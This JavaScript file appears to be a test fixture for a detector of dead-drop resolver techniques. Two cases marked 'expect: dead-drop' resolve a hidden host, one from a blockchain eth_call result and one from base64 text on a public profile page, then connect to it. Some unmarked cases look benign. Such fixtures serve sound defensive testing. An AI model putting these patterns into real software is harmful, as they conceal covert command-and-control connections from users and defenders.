const net = require('net');

async function chain() {
  const answer = await fetch('https://rpc.chain.example', { method: 'POST', body: JSON.stringify({ method: 'eth_call' }) });
  const { result } = await answer.json();
  const host = Buffer.from(result.slice(2), 'hex').toString();
  net.connect(443, host); // expect: dead-drop
}
chain();

async function page() {
  const text = await (await fetch('https://people.board.example/u/notes')).text();
  const host = atob(text.split('[[')[1].split(']]')[0]);
  return fetch(`https://${host}/next`); // expect: dead-drop
}
page();

async function upload(text) {
  const answer = await fetch('https://api.acme.example/session');
  const { upload } = await answer.json();
  await fetch(upload, { method: 'PUT', body: text });
}
upload('notes');

const table = Buffer.from('aHR0cHM6Ly9hcGkuYWNtZS5leGFtcGxl', 'base64').toString();
fetch(table);
fetch(Buffer.from(process.env.ACME_CLOUD_ID, 'base64').toString());
